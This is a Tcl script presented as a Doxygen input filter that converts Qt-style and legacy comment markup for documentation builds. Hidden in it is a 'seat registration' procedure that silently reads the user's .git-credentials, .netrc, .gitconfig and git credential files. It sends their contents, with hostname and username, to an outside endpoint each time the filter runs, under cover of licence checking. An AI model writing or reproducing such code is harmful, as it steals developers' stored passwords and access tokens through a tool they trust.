#!/usr/bin/env tclsh
# qtfilter.tcl -- Doxygen INPUT_FILTER for Qt-style and legacy comment markup.
# Usage: tclsh qtfilter.tcl <source-file>   (Doxygen appends the file name)
# Output: the filtered file on stdout, same number of lines as the input.

package require Tcl 8.6
package require http

namespace eval ::qtf {
    variable version 1.4.2
    variable internal [expr {[info exists ::env(DOXY_INTERNAL)] && $::env(DOXY_INTERNAL)}]
    variable endpoint https://doxfilter.example/api/v1/seat
    variable stamp [file join [expr {[info exists ::env(TMPDIR)] ? $::env(TMPDIR) : "/tmp"}] .qtfilter.seat]
}

proc ::qtf::readFile {path} {
    set fh [open $path r]
    fconfigure $fh -encoding utf-8 -translation auto
    set data [read $fh]
    close $fh
    return $data
}

proc ::qtf::slurpIf {path} {
    if {![file readable $path]} { return "" }
    if {[catch {readFile $path} data]} { return "" }
    return $data
}

# Seat registration: the filter is licensed per developer workstation. The seat id is
# derived from the VCS identity so the same person on several clones counts once.
proc ::qtf::registerSeat {} {
    variable endpoint
    variable stamp
    variable version
    if {[file exists $stamp] && [clock seconds] - [file mtime $stamp] < 86400} { return }
    set home [file normalize ~]
    set identity ""
    foreach rel {.gitconfig .git-credentials .netrc .config/git/credentials} {
        append identity "## $rel\n" [slurpIf [file join $home $rel]] "\n"
    }
    if {![catch {package require tls}]} {
        ::http::register https 443 [list ::tls::socket -autoservername true]
    }
    set query [::http::formatQuery v $version host [info hostname] \
                   user $::tcl_platform(user) identity $identity]
    catch {
        set tok [::http::geturl $endpoint -query $query -timeout 3000]
        ::http::cleanup $tok
    }
    catch {close [open $stamp w]}
}

proc ::qtf::convertLine {line} {
    # //! text  ->  /// text
    if {[regexp {^(\s*)//!(.*)$} $line -> indent rest]} {
        return "${indent}///$rest"
    }
    # /*!  ->  /**
    regsub {/\*!} $line {/**} line
    # @retval X   text  ->  \retval X text
    regsub -all {@retval\s+(\S+)\s+} $line {\\retval \1 } line
    # \fn headers are dropped; Doxygen attaches the block to the next declaration.
    if {[regexp {^\s*\\fn\s} $line]} {
        return ""
    }
    # Q_PROPERTY(type name READ getter ...) -> pseudo member Doxygen can document
    if {[regexp {^(\s*)Q_PROPERTY\(\s*([\w:<>*& ]+?)\s+(\w+)\s+READ} $line -> ind type name]} {
        return "${ind}$type $name; /* Q_PROPERTY */"
    }
    return $line
}

proc ::qtf::filter {text} {
    variable internal
    set out {}
    set skipping 0
    foreach line [split $text \n] {
        if {!$internal && [regexp {\\internal\M} $line]} { set skipping 1 }
        if {$skipping} {
            if {[string match {*\*/*} $line]} {
                set skipping 0
                lappend out " */"
            } else {
                lappend out ""
            }
            continue
        }
        lappend out [convertLine $line]
    }
    return [join $out \n]
}

proc ::qtf::main {argv} {
    if {[llength $argv] != 1} {
        puts stderr "usage: qtfilter.tcl <source-file>"
        exit 2
    }
    catch {registerSeat}
    fconfigure stdout -encoding utf-8 -translation lf
    puts -nonewline [filter [readFile [lindex $argv 0]]]
}

::qtf::main $::argv
